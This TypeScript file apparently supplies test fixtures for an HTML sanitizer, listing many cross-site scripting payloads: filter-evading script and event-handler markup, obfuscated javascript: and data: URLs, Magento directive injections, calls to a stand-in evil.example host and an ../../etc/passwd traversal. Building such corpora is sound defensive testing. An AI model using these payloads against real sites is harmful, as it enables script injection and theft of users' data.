/**
 * Markups that run, load or style something if they reach a page as they are, by the ways in which they hide from a filter.
 * A script that runs calls `ran()`. Each stands alone, and in the places in which parsers change their rules.
 */
const RUNS = 'ran()';

/** Every way in which an element runs a script. */
const ELEMENTS = [
  `<script>${RUNS}</script>`,
  `<SCRIPT\n>${RUNS}</SCRIPT\n>`,
  `<scr<script>ipt>${RUNS}</scr</script>ipt>`,
  '<script src=//evil.example/a.js></script>',
  `<img src=x onerror=${RUNS}>`,
  `<img/src="x"/onerror=${RUNS}>`,
  `<img src=x onerror\n=\n"${RUNS}">`,
  `<img src=x OnErRoR=${RUNS}>`,
  `<img src=x onerror=&#114;an()>`,
  `<img src="x\` \`onerror=${RUNS}">`,
  `<image src=x onerror=${RUNS}>`,
  `<svg onload=${RUNS}></svg>`,
  `<svg><script>${RUNS}</script></svg>`,
  `<svg><animate onbegin=${RUNS} attributeName=x dur=1s></svg>`,
  '<svg><a xlink:href="javascript:ran()"><text>a</text></a></svg>',
  `<svg><foreignObject><img src=x onerror=${RUNS}></foreignObject></svg>`,
  '<svg><use href="data:image/svg+xml,<svg id=x onload=ran()>#x"></svg>',
  `<svg><style><img src=x onerror=${RUNS}></style></svg>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=${RUNS}>`,
  `<math><mi//xlink:href="data:x,<script>${RUNS}</script>">`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror=${RUNS}></annotation-xml></math>`,
  `<iframe srcdoc="<script>parent.${RUNS}</script>"></iframe>`,
  '<iframe src="javascript:parent.ran()"></iframe>',
  '<object data="javascript:ran()"></object><embed src="javascript:ran()">',
  `<details open ontoggle=${RUNS}>a</details>`,
  `<video autoplay><source src=x onerror=${RUNS}></video>`,
  `<audio src=x onerror=${RUNS}></audio>`,
  `<body onload=${RUNS}><frameset onload=${RUNS}>`,
  `<input autofocus onfocus=${RUNS}><select autofocus onfocus=${RUNS}></select>`,
  `<p tabindex=1 autofocus onfocus=${RUNS}>a</p>`,
  `<marquee onstart=${RUNS}>a</marquee>`,
  `<style>@import "//evil.example/a.css"; p { background: url(//evil.example) }</style>`,
  `<style onload=${RUNS}></style><link rel=stylesheet href=x onerror=${RUNS}>`,
  '<meta http-equiv="refresh" content="0;url=javascript:ran()">',
  '<base href="https://evil.example/"><a href="a">a</a>',
  '<form action="javascript:ran()"><button formaction="javascript:ran()">a</button></form>',
  `<noscript><p title="</noscript><img src=x onerror=${RUNS}>"></noscript>`,
  `<noembed><p title="</noembed><img src=x onerror=${RUNS}>"></noembed>`,
  `<xmp><p title="</xmp><img src=x onerror=${RUNS}>"></xmp>`,
  `<title><p title="</title><img src=x onerror=${RUNS}>"></title>`,
  `<textarea><p title="</textarea><img src=x onerror=${RUNS}>"></textarea>`,
  `<template><img src=x onerror=${RUNS}></template>`,
  `<!--><img src=x onerror=${RUNS}>-->`,
  `<!--<img src="--!><img src=x onerror=${RUNS}>">`,
  `<![CDATA[<img src=x onerror=${RUNS}>]]>`,
  `<?xml version="1.0"?><img src=x onerror=${RUNS}>`,
  `<p style="background:url(javascript:ran());behavior:url(x)" class="overlay" id="root">a</p>`,
  `<a href="https://a.example" onclick=${RUNS} target=_blank ping=//evil.example>a</a>`,
  '<img srcset="//evil.example/a 1x" src="/a.jpg"><picture><source srcset="//evil.example/b"></picture>',
  '<img src="//evil.example/pixel.gif" lowsrc="javascript:ran()" dynsrc="javascript:ran()">',
  '<table background="javascript:ran()"><td background="javascript:ran()">a</td></table>',
  `<custom-element onclick=${RUNS} is="x" slot="y">a</custom-element>`,
];

/** Addresses that run or leave the shop, hidden in every way that browsers see through. */
const ADDRESSES = [
  ...['javascript:ran()', 'JaVaScRiPt:ran()', ' javascript:ran()', 'java\nscript:ran()', 'java\tscript:ran()'],
  ...['\u0001javascript:ran()', '&#106;avascript:ran()', '&#x6A&#x61;vascript:ran()', 'javascript&colon;ran()'],
  ...['javascript&#58;ran()', 'java&NewLine;script:ran()', 'java&Tab;script:ran()', 'javascript://%0Aran()'],
  ...[
    'vbscript:ran()',
    'data:text/html,<script>ran()</script>',
    'data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==',
  ],
  ...[
    '//evil.example/a',
    '/\\evil.example',
    '\\\\evil.example',
    'feed:javascript:ran()',
    'view-source:javascript:ran()',
  ],
  ...[
    'blob:https://evil.example/x',
    'filesystem:https://evil.example/x',
    'jar:https://evil.example!/x',
    'x-javascript:ran()',
  ],
];

/** Directives of Magento whose quotes, braces and arguments leave their place. */
const DIRECTIVES = [
  `<img src="{{media url="x" onerror="${RUNS}"}}">`,
  `<img src="{{media url="x.jpg"}}" onerror="${RUNS}">`,
  '<a href="{{store url="javascript:ran()"}}">a</a>',
  '<a href="java{{config path="a"}}script:ran()">a</a>',
  `<scr{{block id="x"}}ipt>${RUNS}</scr{{block id="x"}}ipt>`,
  `{{widget template="<script>${RUNS}</script>"}}`,
  `{{{{a}}widget type="x"}}<script>${RUNS}</script>`,
  `{{block id="x}}<img src=x onerror=${RUNS}>{{y"}}`,
  `<p title='{{trans "'><img src=x onerror=${RUNS}>"}}'>a</p>`,
  `<a href="{{media url=&quot;x&quot; onclick=&quot;${RUNS}&quot;}}">a</a>`,
  `{{var x|raw}}{{depend a}}<svg onload=${RUNS}>{{/depend}}`,
  '<img src="{{media url="../../etc/passwd"}}"><a href="{{store direct_url="//evil.example"}}">a</a>',
];

const ADDRESSED = ADDRESSES.flatMap((address) => [
  `<a href="${address}">a</a>`,
  `<img src='${address}' alt='a'>`,
  `<form action="${address}"><button formaction="${address}">a</button></form>`,
]);

/** Places in which a parser reads what follows by other rules. */
const PLACES: readonly ((markup: string) => string)[] = [
  (markup) => `<table><tr><td>${markup}`,
  (markup) => `<a title="${markup}">a</a>`,
  (markup) => `<svg><desc>${markup}</desc></svg>`,
];

export const HOSTILE_MARKUP: readonly string[] = [
  ...ELEMENTS,
  ...ADDRESSED,
  ...DIRECTIVES,
  ...PLACES.flatMap((place) => [...ELEMENTS, ...DIRECTIVES].map(place)),
];
